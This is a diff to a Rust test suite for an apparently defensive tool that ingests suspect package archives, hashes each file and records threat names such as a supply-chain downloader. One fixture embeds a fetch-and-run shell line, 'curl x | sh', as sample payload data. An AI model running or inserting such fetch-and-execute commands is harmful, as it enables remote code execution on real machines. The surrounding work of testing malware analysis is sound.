@@ -92,7 +92,7 @@ async fn every_archive_kind_is_hashed_file_by_file() {
         write(&s, "evil-0.1.0.crate", &krate),
         write(&s, "evilgem-1.2.3.gem", &gem),
     ];
-    let mut args = vec!["ingest", "sample"];
+    let mut args = vec!["ingest", "sample", "--force"];
     args.extend(paths.iter().map(String::as_str));
     s.ok(&args, "");
 
@@ -108,15 +108,17 @@ async fn every_archive_kind_is_hashed_file_by_file() {
     assert_eq!(npm_entry["sample_size"], npm.len().to_string());
     assert_eq!(npm_entry["filename"], "pkg-1.2.3.tgz");
     assert_eq!(npm_entry["source_url"], "https://registry.npmjs.org/@evil/pkg/-/pkg-1.2.3.tgz");
+    // The analyser names the malicious file (index.js, run by the postinstall script); the
+    // override names its threat; the harmless files are hashed in the store, not announced.
     let samples = npm_entry["sample_list"].as_array().unwrap();
-    assert_eq!(samples.len(), 3, "the archive and each file inside");
-    assert_eq!(samples[2]["sha256"], hex(Sha256::digest(index_js)));
-    assert_eq!(samples[2]["threat_name"], "Script-JS.Downloader.SupplyChain");
-    assert_eq!(samples[2]["threat_level"], "4");
-    assert_eq!(
-        npm_entry["scioc"]["provenance"]["files"],
-        serde_json::json!(["pkg-1.2.3.tgz", "package/package.json", "package/index.js"])
-    );
+    assert_eq!(samples[0]["sha256"], hex(Sha256::digest(&npm)), "the archive first");
+    let index = samples.iter().find(|x| x["sha256"] == hex(Sha256::digest(index_js))).expect("index.js is announced");
+    assert_eq!(index["threat_name"], "Script-JS.Downloader.SupplyChain");
+    assert_eq!(index["threat_level"], "4");
+    let files = npm_entry["scioc"]["provenance"]["files"].as_array().unwrap();
+    assert_eq!(files[0], "pkg-1.2.3.tgz");
+    assert!(files.iter().any(|f| f == "package/index.js"), "{files:?}");
+    assert_eq!(files.len(), samples.len());
 
     let purls: Vec<&str> = e[1..].iter().map(|x| x["identity"]["purl"].as_str().unwrap()).collect();
     assert_eq!(purls, ["pkg:pypi/evil-pkg@0.1", "pkg:pypi/evil@0.2", "pkg:cargo/evil@0.1.0", "pkg:gem/evilgem@1.2.3"]);
@@ -153,7 +155,7 @@ fn hostile_archives_are_refused_and_nothing_is_stored() {
     ];
     for (name, bytes, needle) in &cases {
         let path = write(&s, name, bytes);
-        let out = s.run(&["ingest", "sample", &good, &path], "");
+        let out = s.run(&["ingest", "sample", "--force", &good, &path], "");
         assert_eq!(out.status.code(), Some(1), "{name}");
         let err = String::from_utf8_lossy(&out.stderr);
         assert!(err.contains(needle) && err.contains(name), "{name}: {err}");
@@ -162,15 +164,15 @@ fn hostile_archives_are_refused_and_nothing_is_stored() {
     let many: Vec<(String, Vec<u8>)> = (0..6).map(|i| (format!("package/f{i}"), vec![b'x'])).collect();
     let many: Vec<(&str, &[u8])> = many.iter().map(|(p, c)| (p.as_str(), c.as_slice())).collect();
     let path = write(&s, "many-1.0.0.tgz", &gz(&tar_bytes(&many)));
-    let out = s.run(&["ingest", "sample", "--max-files", "5", &path], "");
+    let out = s.run(&["ingest", "sample", "--force", "--max-files", "5", &path], "");
     assert!(String::from_utf8_lossy(&out.stderr).contains("more than 5 entries"));
     assert_eq!(events(&s), 0, "nothing of a refused batch is stored");
 
     // No manifest: the identity must be given.
     let bare = write(&s, "bare.tgz", &gz(&tar_bytes(&[("payload.sh", b"curl x | sh")])));
-    let out = s.run(&["ingest", "sample", &bare], "");
+    let out = s.run(&["ingest", "sample", "--force", &bare], "");
     assert!(String::from_utf8_lossy(&out.stderr).contains("--purl"));
-    s.ok(&["ingest", "sample", &bare, "--purl", "pkg:npm/bare@6.6.6"], "");
+    s.ok(&["ingest", "sample", "--force", &bare, "--purl", "pkg:npm/bare@6.6.6"], "");
     assert_eq!(events(&s), 1);
 }
 
@@ -195,7 +197,7 @@ async fn an_archive_of_many_files_makes_a_bounded_event_and_the_store_keeps_ever
         b.append_data(&mut h, format!("package/f{i}"), std::io::empty()).unwrap();
     }
     let path = write(&s, "many-1.0.0.tgz", &gz(&b.into_inner().unwrap()));
-    let out = s.ok(&["ingest", "sample", &path], "");
+    let out = s.ok(&["ingest", "sample", "--force", &path], "");
     assert!(out.contains("99991 files (the event lists 999 of them; the store keeps all)"), "{out}");
 
     crate::support::next_second().await;
